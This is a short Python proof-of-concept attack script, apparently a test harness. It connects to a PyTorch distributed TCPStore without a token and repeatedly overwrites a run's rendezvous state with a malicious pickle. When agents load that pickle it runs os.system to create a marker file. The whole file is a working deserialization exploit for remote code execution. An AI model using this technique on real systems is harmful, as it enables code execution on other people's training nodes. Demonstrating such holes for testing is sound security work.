"""Attacker: keep replacing a run's rendezvous state with a pickle that creates a marker file when loaded.

    python forge_rdzv_state.py <store host> <port> <run id> <marker path> <seconds>

Connects as a plain TCPStore client (no token), as anything that can reach the port could.
"""

import base64
import os
import pickle
import sys
import time
from datetime import timedelta

from torch.distributed import TCPStore

host, port, run_id, marker, duration_s = sys.argv[1:6]


class Touch:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))


payload = base64.b64encode(pickle.dumps(Touch()))
deadline = time.monotonic() + float(duration_s)
while True:
    try:
        store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=5))
        break
    except (RuntimeError, TimeoutError):
        if time.monotonic() > deadline:
            raise
        time.sleep(0.2)
store.set(f"torch.rendezvous.{run_id}", payload)
print("forged", flush=True)
while time.monotonic() < deadline:
    time.sleep(0.2)
    store.set(f"torch.rendezvous.{run_id}", payload)  # racing the agents' own writes
